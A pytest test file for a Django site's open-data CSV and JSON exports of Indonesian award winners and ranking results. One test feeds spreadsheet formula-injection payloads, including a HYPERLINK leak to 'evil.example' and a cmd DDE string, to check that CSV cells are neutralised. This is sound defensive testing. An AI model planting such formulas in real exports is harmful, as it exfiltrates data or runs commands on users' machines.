"""Open data: the downloads page and each published edition's winners and ranking results as
CSV (UTF-8, header row, no spreadsheet formulas) and JSON (a list of objects), the same in
both languages; 404 for what is not published; queries that do not grow with the winners; the
cache. What must not leak is tested in test_public_leaks.py."""

import csv
import io
import json
import re
from decimal import Decimal as D

import pytest
from django.conf import settings
from django.db import connection
from django.test.utils import CaptureQueriesContext

from candidates.enums import CandidateKind, NominationState
from candidates.models import Candidate, Category, Edition, Nomination, Regency
from ceremonies import opendata, services
from paritrana.public_cache import public_cache_clear
from scoring.enums import AwardKind
from scoring.models import Award, RankingSnapshot, RankingSnapshotRow

pytestmark = [
    pytest.mark.django_db,
    pytest.mark.usefixtures("demo_once", "tasks_in_process"),
]

BEKASI = "Pemerintah Kota Bekasi"


def _download(client, url, language="id"):
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = language
    response = client.get(url)
    assert response.status_code == 200, url
    return response


def _csv(client, url, language="id") -> list[dict]:
    response = _download(client, url, language)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith("\ufeff".encode())  # so that spreadsheets read UTF-8
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def _json(client, url, language="id") -> list[dict]:
    response = _download(client, url, language)
    assert response["Content-Type"] == "application/json"
    return json.loads(response.content)


@pytest.mark.parametrize("language", ["id", "en"])
def test_open_data_page_lists_the_downloads_of_published_editions(client, published_demo, language):
    response = _download(client, "/open-data/", language)
    page = response.content.decode()
    assert re.findall(r'<tr data-year="(\d+)">', page) == ["2020", "2018"]
    for year in (2020, 2018):
        for dataset in ("winners", "results"):
            for fmt in ("csv", "json"):
                href = f'href="/open-data/{year}/{dataset}.{fmt}" download data-file'
                assert href in page
    assert "/open-data/2021/" not in page
    assert 'data-nav="public:open_data" aria-current="page"' in page


def _documented_columns(page: str, dataset: str) -> list[str]:
    section = page.split(f'<section class="dataset" data-dataset="{dataset}"')[1]
    return re.findall(r'<tr data-column="(\w+)">', section.split("</section>")[0])


@pytest.mark.parametrize("language", ["id", "en"])
def test_open_data_page_documents_exactly_the_columns_of_each_file(
    client, published_demo, language
):
    page = _download(client, "/open-data/", language).content.decode()
    for dataset in ("winners", "results"):
        documented = _documented_columns(page, dataset)
        for year in (2020, 2018):
            rows = _json(client, f"/open-data/{year}/{dataset}.json")
            assert rows and all(list(row) == documented for row in rows), (dataset, year)
            text = _download(client, f"/open-data/{year}/{dataset}.csv").content.decode("utf-8-sig")
            assert text.splitlines()[0] == ",".join(documented)
    assert _documented_columns(page, "results") == [
        "year", "stage", "category", "province", "rank", "candidate_id", "candidate", "region",
        "total", "label", "advanced_to_national", "national_finalist", "awarded",
        "interview_judged", "attendance_factor", "interview_total", "demo_data", "illustrative",
    ]  # fmt: skip
    # Each column with what it holds, in the visitor's language.
    meaning = {
        "en": "<td>Provincial assessment rows: true when the nominee advanced from the province "
        "to the national round, false when not. Empty on national rows.</td>",
        "id": "<td>Baris penilaian provinsi: true bila nomine maju dari provinsi ke tingkat "
        "nasional, false bila tidak. Kosong pada baris nasional.</td>",
    }[language]
    row = page.split('<tr data-column="advanced_to_national">')[1].split("</tr>")[0]
    assert row == '<th scope="row"><code>advanced_to_national</code></th>' + meaning


def test_winners_csv_of_2020_are_the_national_awards(client, published_demo):
    response = _download(client, "/open-data/2020/winners.csv")
    assert response["Content-Disposition"] == 'attachment; filename="paritrana-2020-winners.csv"'
    text = response.content.decode("utf-8-sig")
    assert text.splitlines()[0] == ",".join(opendata.WINNERS_FIELDS)
    bekasi = published_demo["bekasi"]
    assert (
        f"2020,national,Pemerintah Kabupaten/Kota,Peringkat III,3,{bekasi.pk},{BEKASI},"
        '"Kota Bekasi, Jawa Barat",Jawa Barat,true,false\r\n'
    ) in text
    rows = _csv(client, "/open-data/2020/winners.csv")
    # Demo data: the articles report Kota Bekasi's third place, not who came first and second.
    assert [
        (r["award"], r["rank"], r["candidate"], r["province"], r["demo_data"], r["illustrative"])
        for r in rows
    ] == [
        ("Peringkat I", "1", "Pemerintah Kota Semarang", "Jawa Tengah", "true", "true"),
        ("Peringkat II", "2", "Pemerintah Kabupaten Banyuwangi", "Jawa Timur", "true", "true"),
        ("Peringkat III", "3", BEKASI, "Jawa Barat", "true", "false"),
    ]


def test_winners_of_2018_are_the_provincial_labels_of_jawa_barat(client, published_demo):
    rows = _csv(client, "/open-data/2018/winners.csv")
    assert {r["level"] for r in rows} == {"provincial"}
    assert {r["province"] for r in rows} == {"Jawa Barat"}
    assert [(r["category"], r["award"], r["candidate"]) for r in rows][:5] == [
        ("Pemerintah Kabupaten/Kota", "Peringkat I", BEKASI),
        ("Pemerintah Kabupaten/Kota", "Peringkat II", "Pemerintah Kota Bogor"),
        ("Pemerintah Kabupaten/Kota", "Peringkat III", "Pemerintah Kota Bandung"),
        ("Pemerintah Kabupaten/Kota", "Harapan I", "Pemerintah Kota Sukabumi"),
        ("Pemerintah Kabupaten/Kota", "Harapan II", "Pemerintah Kota Cimahi"),
    ]
    assert len(rows) == 5 + 6 + 1


def _national_row(published_demo, name, stage, rank, total, **outcome) -> dict:
    """A 2020 national row as the CSV gives it: what the stage decided and the interview."""
    candidate = Candidate.objects.get(name=name)
    region = {
        BEKASI: "Kota Bekasi, Jawa Barat",
        "Pemerintah Kabupaten Bone Bolango": "Kabupaten Bone Bolango, Gorontalo",
        "Pemerintah Kota Balikpapan": "Kota Balikpapan, Kalimantan Timur",
        "Pemerintah Kota Kupang": "Kota Kupang, Nusa Tenggara Timur",
    }[name]
    return {
        "year": "2020",
        "stage": stage,
        "category": "Pemerintah Kabupaten/Kota",
        "province": "",
        "rank": str(rank),
        "candidate_id": str(candidate.pk),
        "candidate": name,
        "region": region,
        "total": total,
        "label": "",
        "advanced_to_national": "",
        "national_finalist": "",
        "awarded": "",
        "interview_judged": "",
        "attendance_factor": "",
        "interview_total": "",
        "demo_data": "true",
        "illustrative": "false",
        **outcome,
    }


def test_results_of_2020_are_every_published_national_ranking_row(client, published_demo):
    rows = _csv(client, "/open-data/2020/results.csv")
    assert {r["stage"] for r in rows} == {"national_selection", "national_result"}
    selection, result = "national_selection", "national_result"

    def of(name):
        return [r for r in rows if r["candidate"] == name]

    assert of(BEKASI) == [
        _national_row(published_demo, BEKASI, selection, 3, "86.00", national_finalist="true"),
        _national_row(
            published_demo, BEKASI, result, 3, "86.80", label="Peringkat III",
            national_finalist="true", awarded="true", interview_judged="88.00",
            attendance_factor="1.00", interview_total="88.00",
        ),
    ]  # fmt: skip
    # Bone Bolango, a finalist ranked sixth without an award: a finalist in both rows.
    bone_bolango = "Pemerintah Kabupaten Bone Bolango"
    assert of(bone_bolango) == [
        _national_row(published_demo, bone_bolango, selection, 7, "80.00",
                      national_finalist="true"),
        _national_row(
            published_demo, bone_bolango, result, 6, "80.80", national_finalist="true",
            awarded="false", interview_judged="82.00", attendance_factor="1.00",
            interview_total="82.00",
        ),
    ]  # fmt: skip
    # Balikpapan's regional secretary came: 90.00 × 0.80 = 72.00, as its page shows.
    balikpapan = "Pemerintah Kota Balikpapan"
    assert of(balikpapan) == [
        _national_row(published_demo, balikpapan, selection, 1, "89.00",
                      national_finalist="true", illustrative="true"),
        _national_row(
            published_demo, balikpapan, result, 5, "82.20", national_finalist="true",
            awarded="false", interview_judged="90.00", attendance_factor="0.80",
            interview_total="72.00", illustrative="true",
        ),
    ]  # fmt: skip
    # Not a finalist: the selection says so, and there is no national result row.
    kupang = "Pemerintah Kota Kupang"
    assert of(kupang) == [
        _national_row(published_demo, kupang, selection, 12, "70.00", national_finalist="false",
                      illustrative="true")
    ]  # fmt: skip
    snapshots = RankingSnapshot.objects.filter(stage__edition__year=2020, reopened_at__isnull=True)
    assert len(rows) == RankingSnapshotRow.objects.filter(snapshot__in=snapshots).count()
    assert [r["national_finalist"] for r in rows if r["stage"] == selection].count("true") == 8
    assert {r["national_finalist"] for r in rows if r["stage"] == result} == {"true"}
    assert [r["awarded"] for r in rows if r["stage"] == result] == ["true"] * 3 + ["false"] * 5
    assert {r["advanced_to_national"] for r in rows} == {""}


def test_results_of_2018_are_jawa_barats_provincial_rankings(client, published_demo):
    rows = _json(client, "/open-data/2018/results.json")
    assert {(r["stage"], r["province"]) for r in rows} == {("provincial_assessment", "Jawa Barat")}
    assert len(rows) == 9 + 6 + 1
    assert rows[0] == {
        "year": 2018,
        "stage": "provincial_assessment",
        "category": "Pemerintah Kabupaten/Kota",
        "province": "Jawa Barat",
        "rank": 1,
        "candidate_id": published_demo["bekasi"].pk,
        "candidate": BEKASI,
        "region": "Kota Bekasi, Jawa Barat",
        "total": "90.65",
        "label": "Peringkat I",
        "advanced_to_national": True,
        "national_finalist": None,
        "awarded": None,
        "interview_judged": None,
        "attendance_factor": None,
        "interview_total": None,
        "demo_data": True,
        "illustrative": False,
    }
    # Only the nominees within the provincial quota advanced to the national round.
    category = [r for r in rows if r["category"] == "Pemerintah Kabupaten/Kota"]
    assert [r["advanced_to_national"] for r in category] == [True] + [False] * 8
    # The articles name the five placed first; places 6-9 are illustrative.
    assert [r["illustrative"] for r in category] == [False] * 5 + [True] * 4


@pytest.mark.parametrize("dataset", ["winners", "results"])
def test_json_and_csv_hold_the_same_rows_in_both_languages(client, published_demo, dataset):
    for year in (2020, 2018):
        as_json = _json(client, f"/open-data/{year}/{dataset}.json")
        as_csv = _csv(client, f"/open-data/{year}/{dataset}.csv")
        assert [{k: "" if v is None else str(v).lower() if isinstance(v, bool) else str(v)
                 for k, v in row.items()} for row in as_json] == as_csv  # fmt: skip
        for fmt in ("csv", "json"):
            url = f"/open-data/{year}/{dataset}.{fmt}"
            assert _download(client, url, "en").content == _download(client, url, "id").content


@pytest.mark.parametrize(
    "url",
    [
        "/open-data/2021/winners.csv",
        "/open-data/2021/results.json",
        "/open-data/2019/winners.json",
        "/open-data/2020/secrets.csv",
        "/open-data/2020/winners.xlsx",
        "/open-data/2020/winners.csv.json",
    ],
)
def test_unpublished_or_unknown_files_are_404(client, published_demo, url):
    assert client.get(url).status_code == 404


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("https://evil.example/?leak="&A1,"Klik")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(client, published_demo, name):
    Candidate.objects.filter(pk=published_demo["bekasi"].pk).update(name=name)
    for dataset in ("winners", "results"):
        rows = _csv(client, f"/open-data/2020/{dataset}.csv")
        cells = [
            r["candidate"] for r in rows if r["candidate_id"] == str(published_demo["bekasi"].pk)
        ]
        assert cells and set(cells) == {"'" + name}
        # JSON is data, not a spreadsheet: the name as it is.
        assert name in {r["candidate"] for r in _json(client, f"/open-data/2020/{dataset}.json")}


def test_neutralise_leaves_other_values_alone():
    assert [opendata.neutralise(v) for v in ["Kota Bekasi", "86.80", 3, None, "", "a=b"]] == [
        "Kota Bekasi",
        "86.80",
        3,
        None,
        "",
        "a=b",
    ]


def _queries(client, url) -> int:
    public_cache_clear()
    with CaptureQueriesContext(connection) as queries:
        _download(client, url)
    return len(queries)


def test_queries_do_not_grow_with_the_winners(client, published_demo):
    urls = [f"/open-data/{y}/{d}.{f}" for y in (2020, 2018) for d in ("winners", "results")
            for f in ("csv", "json")]  # fmt: skip
    before = {url: _queries(client, url) for url in urls}
    # Five more national winners in 2020, five more ranked nominees in Jawa Barat 2018.
    category = Category.objects.get(edition__year=2020, code="pemerintah-kabupaten-kota")
    free = Regency.objects.filter(candidates__isnull=True).order_by("code")
    for regency in free.exclude(province_id="32")[:5]:
        nomination = Nomination.objects.create(
            candidate=Candidate.objects.create(
                kind=CandidateKind.REGENCY_GOVERNMENT, regency=regency, name=f"Pemerintah {regency}"
            ),
            category=category,
            state=NominationState.AWARDED,
        )
        Award.objects.create(
            category=category,
            nomination=nomination,
            kind=AwardKind.SPECIAL,
            title="Penghargaan Khusus",
            reason="Inovasi.",
        )
    snapshot = RankingSnapshot.objects.get(
        stage__edition__year=2018, panel__province="32", category__code="pemerintah-kabupaten-kota"
    )
    for i, regency in enumerate(free.filter(province_id="32")[:5], start=10):
        nomination = Nomination.objects.create(
            candidate=Candidate.objects.create(
                kind=CandidateKind.REGENCY_GOVERNMENT, regency=regency, name=f"Pemerintah {regency}"
            ),
            category=snapshot.category,
            state=NominationState.NOT_ADVANCED,
        )
        RankingSnapshotRow.objects.create(
            snapshot=snapshot, nomination=nomination, rank=i, total=D("40.00"), label="harapan_3"
        )
    assert len(_csv(client, "/open-data/2020/winners.csv")) == 3 + 5
    assert len(_csv(client, "/open-data/2018/results.csv")) == 16 + 5
    assert {url: _queries(client, url) for url in urls} == before


def test_downloads_are_cached_and_cleared_on_publish(
    client, demo, django_assert_num_queries, django_capture_on_commit_callbacks
):
    assert client.get("/open-data/2020/winners.csv").status_code == 404
    with django_capture_on_commit_callbacks(execute=True):
        services.results_publish(actor=None, edition=Edition.objects.get(year=2020))
    first = _download(client, "/open-data/2020/winners.csv")
    with django_assert_num_queries(0):
        second = _download(client, "/open-data/2020/winners.csv")
    assert second.content == first.content
    assert second["Content-Disposition"] == first["Content-Disposition"]
    assert second["Content-Type"] == "text/csv; charset=utf-8"
